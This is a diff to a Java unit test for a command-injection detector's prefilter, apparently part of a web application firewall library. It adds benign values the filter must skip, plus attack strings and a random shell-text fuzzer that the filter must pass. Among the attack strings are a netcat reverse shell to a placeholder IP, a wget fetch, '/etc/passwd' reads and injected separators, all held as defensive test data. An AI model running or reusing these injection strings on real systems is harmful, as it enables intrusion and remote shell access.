@@ -1,6 +1,13 @@
 package dev.warden.detect.cmdi;
 
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.warden.detect.CharMask;
+import dev.warden.extract.Input;
+import dev.warden.extract.Source;
 import dev.warden.testing.PrefilterEdges;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -12,15 +19,58 @@ class CmdiPrefilterTest {
   @ParameterizedTest
   @ValueSource(strings = {"sort", "zip", "time", "price:asc", "application/json, text/plain, */*", "https://shop.example.com/cart?step=2", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "en-GB,en;q=0.9,de;q=0.8",
       "Thanks!", "Ring me at +44 20 7946 0958 if out of stock", "Deliver between 9 and 5; ring twice.",
-      "for long distances, if ever"})
+      "for long distances, if ever",
+      // a command word in argument position, before any separator: "at", "time", "sort"
+      "Machine washable at 30 degrees; dry flat. Recycled polyester upper (65%), rubber outsole.",
+      "Size 42 (EU), at the time of order, sort by colour; thanks", "Size 9; ring at the time of delivery",
+      "Recycled polyester (65%), for long distances"})
   void mayMatch_ordinaryValues_skipsThem(String v) {
     PrefilterEdges.skips(detector, v);
   }
 
   @ParameterizedTest
   @ValueSource(strings = {"whoami", "ifconfig.exe", "sort -r /etc/x", "a; id", "x|/usr/bin/id", "code=ansible-console", "/???/??t /???/p??s??", "python3.11 -c x", "x && Whoami", "cmd /c dir", "system('id')",
-      "!-1!-2", "~+", "cat+/etc/passwd", "FOR %i IN (a) DO x", "IF EXIST x y", "g++ -o x y.c"})
+      "!-1!-2", "~+", "cat+/etc/passwd", "FOR %i IN (a) DO x", "IF EXIST x y", "g++ -o x y.c",
+      // command positions and operators the scan must see as the shell lexer does
+      "x;}.uname", "x\n}*kill", "/}*/usr/bin/id", "(whoami)", "a>(id)", "a&id", "a||id", "a\rid",
+      "note; then whoami", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x"})
   void mayMatch_attacksNearTheFilterEdge_passesThem(String v) {
     PrefilterEdges.passes(detector, v);
+  }
+
+  /** Command words, arguments and shell punctuation, glued at random: the filter's proof, checked. */
+  private static final String[] WORDS = {"id", "whoami", "cat", "ls", "at", "sort", "time", "nohup", "sudo",
+      "env", "x=1", "python3", "-c", "/etc/passwd", "/usr/bin/id", "cmd", "/c", "dir", "for", "if", "exist",
+      "ping", "nc", "-e", "sh", "wget", "http://x", "zip", "ifconfig", "net", "user", "echo", "a", "b.c", "1",
+      "rm", "-rf", "uname", "}", ".sh", "@id", "g++", "perl", "dry", "flat", "Deliver", "in", "(a)", "do", "%i", "==", "errorlevel", "top", "/d"};
+  private static final String[] GLUE = {" ", " ", ";", "|", "||", "&&", "&", "\n", "\r", "(", ")", ">", ">(",
+      ">>", ">&", "+", "/", "=", ",", ".", "-", "#", "\t", "}", ":", "%", "*", "?"};
+  private static final String CHARS = " ;})(>/=+&|\n*?.@!#%-\t\f\u000bid";
+
+  @Test
+  void mayMatch_randomShellText_neverHidesAFinding() {
+    Random r = new Random(8);
+    int findings = 0;
+    for (int k = 0; k < 60_000; k++) {
+      StringBuilder sb = new StringBuilder();
+      if (r.nextInt(4) == 0) {
+        sb.append(GLUE[r.nextInt(GLUE.length)]);
+      }
+      for (int j = 0, len = 1 + r.nextInt(6); j < len; j++) {
+        for (int q = r.nextInt(3) == 0 ? 1 + r.nextInt(3) : 0; q > 0; q--) {
+          sb.append(CHARS.charAt(r.nextInt(CHARS.length())));
+        }
+        sb.append(WORDS[r.nextInt(WORDS.length)]);
+        if (j < len - 1 || r.nextInt(3) == 0) {
+          sb.append(GLUE[r.nextInt(GLUE.length)]);
+        }
+      }
+      Input in = Input.value(Source.QUERY, "q", sb.toString());
+      if (detector.inspect(in).isPresent()) {
+        findings++;
+        assertThat(detector.mayMatch(in, CharMask.of(in.text()))).as("%s", in.text()).isTrue();
+      }
+    }
+    assertThat(findings).as("the generator makes attacks").isGreaterThan(10_000);
   }
 }
